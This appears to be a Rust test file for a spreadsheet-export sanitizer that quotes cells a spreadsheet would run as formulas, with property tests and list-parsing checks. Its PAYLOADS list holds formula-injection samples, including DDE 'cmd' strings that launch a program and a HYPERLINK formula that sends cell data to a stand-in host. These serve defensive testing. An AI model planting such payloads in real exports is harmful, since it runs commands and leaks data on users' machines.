use proptest::prelude::*;

use super::{guard, harmless, read_list, unguard, write_list};

/// Cells that are known to be run, and others that are near.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!E1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\"=1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'\"=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "+919876543210",
    "-5",
];

#[test]
fn no_exported_cell_is_one_that_a_spreadsheet_would_run_and_each_is_read_back() {
    for payload in PAYLOADS {
        let cell = guard(payload);
        assert_eq!(cell, format!("'{payload}"));
        assert_eq!(unguard(&cell), Some(*payload));
    }
    for plain in ["", "a=b", "a", "O'Neill", "'t Hooft", "1-2", "a@b.example", "x+y"] {
        if !plain.is_empty() {
            assert_eq!(guard(plain), plain);
        }
        assert_eq!(unguard(plain), None, "{plain:?}");
    }
    // A text that is empty is not the same as none.
    assert_eq!((guard("").as_ref(), unguard("'")), ("'", Some("")));
}

#[test]
fn a_refused_cell_is_given_back_harmless_and_says_the_same() {
    for (cell, back) in [
        ("=1+1", "'=1+1"),
        (" =1+1", "'=1+1"),
        ("\t=1", "'=1"),
        ("'=1+1", "'=1+1"),
        ("+15", "'+15"),
        (" Ana ", " Ana "),
        ("", ""),
    ] {
        let given = harmless(cell);
        assert_eq!(given, back);
        let said = |cell: &str| unguard(cell).unwrap_or(cell).trim().to_owned();
        assert_eq!(said(&given), said(cell));
    }
}

#[test]
fn lists_are_separated_by_commas_semicolons_or_colons_and_quotes_hold_them() {
    for (text, items) in [
        ("vip,retail", vec!["vip", "retail"]),
        ("a;\"b,c\" ,d", vec!["a", "b,c", "d"]),
        ("\"say \"\"hi\"\"\"", vec!["say \"hi\""]),
        ("\"open, x", vec!["\"open", "x"]),
        ("\"a\" b, c", vec!["\"a\" b", "c"]),
        (",, ;", vec![]),
        ("a ::: b:::c", vec!["a", "b", "c"]),
    ] {
        assert_eq!(read_list(text), items, "{text:?}");
    }
}

proptest! {
    #[test]
    fn every_value_is_read_back_from_its_cell(value in "['\" =+@\t\ra\u{feff}-]{0,6}|\\PC{0,8}") {
        let cell = guard(&value);
        let read = unguard(&cell).unwrap_or(&cell);
        prop_assert_eq!(read, &value);
        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{:?}", cell);
        // What stands without its `'` may be trimmed.
        prop_assert!(unguard(&cell).is_some() || cell.trim() == cell);
    }

    #[test]
    fn every_list_is_read_back(items in prop::collection::vec("[a\",;: ]{0,4}|\\PC{1,8}", 0..5)) {
        let text = write_list(items.iter().map(String::as_str));
        prop_assert_eq!(read_list(&text), items);
    }
}
